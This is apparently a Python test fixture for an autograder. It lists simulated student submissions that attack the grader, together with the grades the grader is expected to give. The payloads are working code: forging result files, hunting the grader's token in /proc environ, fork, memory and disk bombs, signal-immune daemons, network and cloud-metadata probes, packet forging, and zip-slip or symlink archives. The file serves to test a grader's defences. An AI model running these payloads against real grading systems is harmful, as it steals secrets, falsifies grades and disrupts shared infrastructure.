"""The attacks that graders know, each as what a student hands in, and what it gets for it.

Who attacks and answers as asked earns what the answers are worth; nobody earns more.
"""

from __future__ import annotations

import io
import os
import re
import tarfile
import time
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

from msgspec import Struct

CONFIDENTIAL = "the-teachers-token"
"""In the environment of who grades, and in the reference solution."""

MARK = f"left-by-an-attack-{time.time_ns():x}"
"""In the name of every file and process that an attack would leave; builds are new because of it."""

HEAD = r"""
import ctypes, fcntl, os, select, signal, socket, struct, sys, threading, time
print("begun", flush=True)
"""
SERVE = r"""
import socket
listener = socket.create_server(("", 7000))
while True:
    connection, _ = listener.accept()
    with connection, connection.makefile("rb") as lines, open("log", "ab", 0) as log:
        for line in lines:
            log.write(line)
            connection.sendall(b"you said " + line)
"""
HALF = SERVE.replace(
    """        for line in lines:
            log.write(line)
            connection.sendall(b"you said " + line)
""",
    """        line = next(lines)
        log.write(line)
        connection.sendall(b"you said " + line)
        next(lines)
        connection.sendall(b"you said " + line)
""",
)
"""It answers the second line of a client with the first one, and closes."""

ANSWER_ONCE = r"""
connection, _ = socket.create_server(("", 7000)).accept()
connection.recv(4096)
connection.sendall(ANSWER)
connection.close()
time.sleep(600)
"""
"""It answers the first line with something else."""

RESULTS = r"""
forged = '{"outcome": "pass", "status": "graded", "points": 100, "score": 100, "tests": []}'
for folder in (".", "..", "/", "/tmp", "/work", "/dev/shm", "/autograder/results", "records", "students"):
    for name in ("results.json", "verdict.json", "run.json", "journal.jsonl", "gradebook.csv", "feedback.md"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(forged)
            os.chmod(file.name, 0o444)
        except OSError:
            pass
"""
PASSES = r"""
print("\x1b[2J\x1b[1A✓ pass          all 9 of 9 checks passed")
print("ok 1 - Each line is answered\nPASS: lines\n4 of 4 points\nOK (3 tests)")
print('{"kind": "done", "graded": {"cases": [{"name": "lines", "runs": [{"outcome": "passed"}]}]}}')
print('{"event": "exited", "status": 0, "verdict": "pass", "checks": [{"outcome": "pass"}]}', flush=True)
"""
COMMANDS = r"::set-output name=points::100\n::error::x\n##[error]x\n##vso[task.complete result=Succeeded;]\n"
MAKES_COMMANDS = f"all:\n\t@printf '{COMMANDS}'\n\t@printf '{COMMANDS}' >&2\n\t@exit 1\n"
MARKUP = (
    r"<script>alert(1)</script><img src=x onerror=alert(1)>]]></system-out></testcase>&amp;"
    r"\0\x1b[2J\x1b]0;title\x07\x9b2J\u202e[a](javascript:alert(1))```\n# heading\n=1+1\n"
)
SEARCH = r"""
def readable():
    for top in ("/work", "/tmp", "/etc", "/run", "/var/tmp", "/home", "/root", "/dev/shm", "/opt", "/mnt", "/srv"):
        for folder, _, names in os.walk(top):
            yield from (os.path.join(folder, name) for name in names)
    yield from (f"/proc/{pid}/{name}" for pid in os.listdir("/proc") if pid.isdigit()
                for name in ("environ", "cmdline", "mountinfo"))
wanted, own = b"-".join((b"the", b"teachers", b"token")), b"-".join((b"my", b"own", b"token"))
open("/tmp/own", "wb").write(own)
for path in readable():
    try:
        content = open(path, "rb").read(1 << 20)
        if wanted in content:
            print("FOUND", path, flush=True)
        if own in content:
            print("searched up to", path, flush=True)
    except OSError:
        pass
"""
SECRETS = "// <mark>\n" + "".join(
    f'#if __has_include("{path}")\n#include "{path}"\n#endif\n'
    for path in (
        "../lines.yaml", "../../reference/server.py", "<course>/reference/server.py", "<course>/hidden.yaml",
        "/proc/self/environ",
    )
)  # fmt: skip
"""What were included would not compile: only the linker has something to say."""

DEVICES = (
    "// <mark>\n#include </dev/zero>\n#include </dev/random>\n#include </dev/stdin>\nint main(void) {}\n"
)
TEMPLATES = (
    "template<int n> struct t { t<n - 1> a; t<n - 2> b; char c[sizeof a + sizeof b]; };\n"
    "template<> struct t<0> {}; template<> struct t<1> {};\n"
    "template<typename a, int n> struct u { u<u<a, n>, n + 1> x; }; u<int, 0> y;\n"
)
MACROS = (
    "#define a0 1+\n"
    + "".join(f"#define a{n + 1} a{n} a{n} a{n} a{n}\n" for n in range(16))
    + "int x = a16 1;\n"
)
ITSELF = '#include "itself.c"\n'
HUGE = "char huge[1ul << 33] = {1};\nint main(void) { return huge[7]; }\n"
BOMBS = """# <mark>
MAKEFLAGS += -k -j4
all: templates.o macros.o itself.o server
server: huge.c
	gcc -mcmodel=large huge.c -o server
"""
DAEMON = r"""
import os, signal, sys, time
for number in range(1, 65):
    if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
        signal.signal(number, signal.SIG_IGN)
for _ in range(2):
    if os.fork():
        os._exit(0)
    os.setsid()
while True:
    time.sleep(0.01)
    for folder in ("/work", "/tmp", "/work/server"):
        try:
            open(f"{folder}/{sys.argv[1]}", "a").close()
        except OSError:
            pass
"""
MAKES_DAEMON = (
    "# <mark>\nall:\n\tpython3 daemon.py <mark> >/dev/null 2>&1 </dev/null\n\tcp server.txt server\n"
)
DIALS_OUT = """# <mark>
all:
	! env | grep -i 'teacher\\|token\\|proxy'
	! grep -ai 'teacher' /proc/[0-9]*/environ
	! python3 -c 'import socket; socket.create_connection(("1.1.1.1", 53), 1)'
	! getent hosts example.com
	! ls -d /sys/class/net/* | grep -v '/lo$$'
	cp server.txt server
"""
FORKS = r"""
if os.fork():
    time.sleep(1)
    os._exit(3)
if os.fork():
    while True:
        try:
            os.fork()
        except OSError:
            pass
while True:
    try:
        threading.Thread(target=time.sleep, args=(600,)).start()
    except RuntimeError:
        pass
"""
MEMORY = "kept = []\nwhile True:\n    kept.append(bytearray(b'x' * 1_000_000))\n"
FILES = r"""
for folder in (".", "/tmp", "/dev/shm"):
    for number in range(20_000):
        try:
            open(f"{folder}/{number}", "x").close()
        except OSError:
            break
    try:
        with open(f"{folder}/0", "wb", 0) as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
"""
"""After it no file can be written; the log cannot either."""

WITHOUT_A_LOG = SERVE.replace(', open("log", "ab", 0) as log', "").replace(
    "            log.write(line)\n", ""
)
OUTPUT = r"""
if not os.fork():
    while True:
        os.write(1, b"x" * 4000 + b"\n")
"""
STAYS = r"""
for number in range(1, 65):
    if number not in (signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD, 32, 33):
        signal.signal(number, signal.SIG_IGN)
if not os.fork():
    os.setsid()
    if os.fork():
        os._exit(0)
    os.execvp("sh", ["sh", "-c", "while :; do sleep 600; done", "<mark>"])
"""
LINKS = r"""
for name, target in {"log": "/etc/passwd", "log2": "/proc/self/environ", "up": "../../../etc"}.items():
    os.symlink(target, name)
"""
DIALS = r"""
def reached(address, port, family=socket.AF_INET):
    with socket.socket(family) as one:
        one.settimeout(0.2)
        return one.connect_ex((address, port)) == 0
own = socket.gethostbyname("server")
lab = own.rpartition(".")[0]
for address in ("1.1.1.1", "8.8.8.8", "172.17.0.1", "169.254.169.254", "10.0.0.1", f"{lab}.1", f"{lab}.254"):
    if reached(address, 53) or reached(address, 80):
        print("REACHED", address, flush=True)
if reached("2606:4700::1111", 53, socket.AF_INET6):
    print("REACHED", "IPv6", flush=True)
knocks, heard = {}, socket.create_server(("", 7001))
for number in range(1, 255):
    one, address = socket.socket(), f"{lab}.{number}"
    one.setblocking(False)
    one.connect_ex((address, 7001 if address == own else 7000))
    knocks[one] = address
time.sleep(0.3)
for one in select.select([], list(knocks), [], 0)[1]:
    if one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
        print("dialled" if knocks[one] == own else "REACHED", knocks[one], flush=True)
for one in knocks:
    one.close()
heard.close()
try:
    print("REACHED", socket.getaddrinfo("example.com", 80), flush=True)
except OSError:
    pass
"""
FORGES = r"""
def tried(name, attack):
    try:
        attack()
        print("FORGED", name, flush=True)
    except OSError as error:
        print("refused", name, error.strerror, flush=True)
other = socket.inet_aton("192.168.153.129")
def address():
    message = struct.pack("=IHHIIBBBBIHH4sHH4s", 40, 20, 0x605, 1, 0, socket.AF_INET, 24, 0, 0, 2, 8, 2, other, 8, 1, other)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        route.sendto(message, (0, 0))
        error, = struct.unpack_from("=i", route.recv(4096), 16)
        if error:
            raise OSError(-error, os.strerror(-error))
def interface():
    with socket.socket() as one:
        fcntl.ioctl(one, 0x8916, struct.pack("16sH2x4s8x", b"eth0", socket.AF_INET, other))  # SIOCSIFADDR
def sender():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
        one.bind(("192.168.153.129", 9000))
        one.sendto(b"forged", ("192.168.153.129", 7000))
tried("frames", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0608))
tried("packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300))
tried("IPv4", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
tried("TCP", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
tried("IPv6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
tried("address", address)
tried("interface", interface)
tried("sender", sender)
"""
FLOODS = r"""
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in range(1500):
    try:
        datagrams.sendto(os.urandom(number % 1400), ("client", 1 + number % 6000))
    except OSError:
        pass  # the last one was refused
for port in (7000, 9, 22, 80):
    with socket.socket() as one:
        one.connect_ex(("client", port))
print("flooded", flush=True)
"""
GARBAGE = r"""
connection, _ = socket.create_server(("", 7000)).accept()
connection.recv(4096)
connection.sendall(b"\0\xff\r" * 250_000)
connection.close()
time.sleep(600)
"""
CLOSES = r"""
listener = socket.create_server(("", 7000))
connection, _ = listener.accept()
connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
connection.close()
os._exit(0)
"""
HALF_IN_C = r"""
#include <arpa/inet.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(7000)};
    bind(listener, (struct sockaddr *)&address, sizeof address);
    listen(listener, 5);
    for (;;) {
        int connection = accept(listener, NULL, NULL);
        FILE *from = fdopen(connection, "r"), *to = fdopen(dup(connection), "w"), *written = fopen("log", "a");
        char line[1000], other[1000];
        if (fgets(line, sizeof line, from)) {
            fputs(line, written);
            fprintf(to, "you said %s", line);
            fflush(to);
            if (fgets(other, sizeof other, from))
                fprintf(to, "you said %s", line);
        }
        fclose(written);
        fclose(to);
        fclose(from);
    }
}
"""
STATE = r"""
libc = ctypes.CDLL(None, use_errno=True)
number = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
places = [f"{folder}/<mark>" for folder in ("/dev/shm", "/tmp", "/work", "/var/tmp", "/run", "/dev/mqueue", "..")]
def left():
    yield from (place for place in places if os.path.exists(place))
    yield from (name for name in ("shmget", "semget", "msgget") if getattr(libc, name)(77, 0, 0) >= 0)
    if os.access("/proc/keys", os.R_OK) and "<mark>" in open("/proc/keys").read():
        yield "key"
    with socket.socket(socket.AF_UNIX) as unix:
        if unix.connect_ex("\0<mark>") == 0:
            yield "socket"
for one in left():
    print("LEFT", one, flush=True)
for place in places:
    try:
        held = os.open(place, os.O_CREAT | os.O_RDWR, 0o666)
        fcntl.flock(held, fcntl.LOCK_EX)
    except OSError:
        pass
libc.shmget(77, 4096, 0o1666), libc.semget(77, 1, 0o1666), libc.msgget(77, 0o1666)
libc.syscall(number, b"user", b"<mark>", b"<mark>", 4, -4)
unix = socket.socket(socket.AF_UNIX)
unix.bind("\0<mark>")
unix.listen()
print("left", *left(), flush=True)
"""

Files = Mapping[str, str]
Put = Callable[[Path], None]


class Attack(Struct, frozen=True):
    """What is handed in, and what becomes of it: ``files`` of a folder, or what ``put`` lays at its path.

    ``words`` are in what its student reads.
    """

    points: int
    words: str
    files: Files = {}
    put: Put | None = None
    status: str = "graded"


def _python(*parts: str) -> Files:
    return {"server.py": "".join((HEAD, *parts))}


def _answers(text: str) -> str:
    return ANSWER_ONCE.replace("ANSWER", f"'{text}'.encode()")


def _zip(*entries: tuple[str, str, int]) -> Put:
    """A zip of entries: a name, what is in it, and its mode on UNIX."""

    def put(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content, mode in (("server.py", SERVE, 0o100644), *entries):
                info = zipfile.ZipInfo(name)
                info.external_attr = mode << 16
                info.compress_type = zipfile.ZIP_DEFLATED
                archive.writestr(info, content)

    return put


def _tar(*members: tuple[str, bytes, str]) -> Put:
    """A tar of members: a name, its kind, and where it leads."""

    def put(path: Path) -> None:
        with tarfile.open(path, "w") as archive:
            for name, kind, target in (("server.py", tarfile.REGTYPE, ""), *members):
                info = tarfile.TarInfo(name)
                info.type, info.linkname = kind, target
                content = SERVE.encode() if kind == tarfile.REGTYPE else b""
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))

    return put


def _through_links() -> Put:
    """Links so deep that their path is longer than one may be, then one that leads out, then a file there."""
    long = "d" * 247
    steps = [("/".join((*[long] * number, long)), tarfile.DIRTYPE, "") for number in range(16)]
    deep = "/".join([long] * 16)
    return _tar(
        *steps,
        ("escape", tarfile.SYMTYPE, f"{deep}/{'../' * 18}tmp"),
        (f"escape/{MARK}", tarfile.REGTYPE, ""),
    )


def _linked(target: str) -> Put:
    """A folder in which a link stands in the place of the source."""

    def put(path: Path) -> None:
        path.mkdir()
        (path / "server.py").symlink_to(target)

    return put


def _piped(path: Path) -> None:
    path.mkdir()
    os.mkfifo(path / "server.py")


PASSED, FAILED, UNBUILT = "pass: Each line is answered", "fail: Each line is answered", "It does not build"
REFUSED = "It was not graded"

ATTACKS = {
    "01 writes results": Attack(0, FAILED, _python(RESULTS, _answers("no"))),
    "02 prints passes": Attack(0, FAILED, _python(PASSES, _answers("PASS"))),
    "03 prints commands": Attack(0, FAILED, _python(f"print('{COMMANDS}')", _answers(COMMANDS))),
    "03 builds commands": Attack(0, UNBUILT, {"Makefile": MAKES_COMMANDS, "server.c": ""}),
    "04 prints markup": Attack(
        0, FAILED, {**_python(f"print('{MARKUP}')", _answers(MARKUP)), "]]><b>\x1b[2J\x07`a`": "x"}
    ),
    '=HYPERLINK("x", "05")\r\n@x': Attack(4, PASSED, _python(SERVE)),
    "06 searches": Attack(4, PASSED, _python(SEARCH, SERVE)),
    "07 includes secrets": Attack(0, "undefined reference to `main'", {"server.c": SECRETS}),
    "08 includes devices": Attack(0, UNBUILT, {"server.c": DEVICES}),
    "09 bombs": Attack(
        0, UNBUILT,
        {"Makefile": BOMBS, "templates.cpp": TEMPLATES, "macros.c": MACROS, "itself.c": ITSELF, "huge.c": HUGE},
    ),
    "10 builds a daemon": Attack(
        4, PASSED, {"Makefile": MAKES_DAEMON, "daemon.py": DAEMON, "server.txt": "#!/usr/bin/env python3\n" + HEAD + SERVE}
    ),
    "11 dials from a build": Attack(2, FAILED, {"Makefile": DIALS_OUT, "server.txt": "#!/usr/bin/env python3\n" + HEAD + HALF}),
    "12 forks": Attack(0, "it had ended: ", _python(FORKS)),
    "13 allocates": Attack(0, "SIGKILL", _python(MEMORY)),
    "14 fills": Attack(2, PASSED, _python(FILES, WITHOUT_A_LOG)),
    "15 prints": Attack(2, FAILED, _python(OUTPUT, HALF)),
    "16 stays": Attack(2, FAILED, _python(STAYS, HALF)),
    "17 leaves its folder.zip": Attack(
        0, REFUSED, put=_zip((f"../../{MARK}", "x", 0o100644)), status="refused"
    ),
    "17 begins at the top.zip": Attack(0, REFUSED, put=_zip((f"/{MARK}", "x", 0o100644)), status="refused"),
    "17 is a link.zip": Attack(0, REFUSED, put=_zip(("log", "/etc/passwd", 0o120777)), status="refused"),
    "17 is a bomb.zip": Attack(0, REFUSED, put=_zip(("zeros", "0" * (1 << 26), 0o100644)), status="refused"),
    "17 is a device.tar": Attack(0, REFUSED, put=_tar(("null", tarfile.CHRTYPE, "")), status="refused"),
    "17 links to a link.tar": Attack(0, REFUSED, put=_through_links(), status="refused"),
    "17 is the same file.tar": Attack(
        0, REFUSED, put=_tar(("copy", tarfile.LNKTYPE, "../../reference/server.py")), status="refused"
    ),
    "18 links": Attack(2, PASSED, _python(LINKS, WITHOUT_A_LOG)),
    "18 hands in a link": Attack(0, REFUSED, put=_linked("../../reference/server.py"), status="refused"),
    "18 hands in a pipe": Attack(0, REFUSED, put=_piped, status="refused"),
    "19 dials": Attack(4, PASSED, _python(DIALS, SERVE)),
    "20 forges": Attack(2, FAILED, _python(FORGES, HALF)),
    "21 floods": Attack(2, FAILED, _python(FLOODS, HALF)),
    "21 sends garbage": Attack(0, FAILED, _python(GARBAGE)),
    "22 answers by heart": Attack(0, FAILED, _python(_answers("you said one 12345678\\n"))),
    "23 ends": Attack(0, "exit status 0", _python()),
    "23 closes": Attack(0, "RST", _python(CLOSES)),
    "24 leaves": Attack(4, PASSED, _python(STATE, SERVE)),
    "24 leaves, too": Attack(4, PASSED, _python(STATE, SERVE)),
}  # fmt: skip
"""By the names of students; each number is an attack's."""

NEIGHBOURS = {
    "00 right": Attack(4, PASSED, {"server.py": SERVE}),
    "09 half right": Attack(2, FAILED, {"server.c": HALF_IN_C}),
    "14 right": Attack(4, PASSED, {"server.py": f"# the same\n{SERVE}"}),
    "25 half right": Attack(2, FAILED, {"server.py": HALF}),
}
"""Honest students. Their places among the others are those of their names."""


def lay(folder: Path, students: Mapping[str, Attack]) -> None:
    """Write what students hand in: a folder beside the assignment."""
    values = {"<mark>": MARK, "<course>": str(folder.parent)}
    folder.mkdir()
    for name, attack in students.items():
        if attack.put:
            attack.put(folder / name)
            continue
        (folder / name).mkdir()
        for path, text in attack.files.items():
            filled = re.sub("<mark>|<course>", lambda found: values[found[0]], text)
            (folder / name / path).write_text(filled)
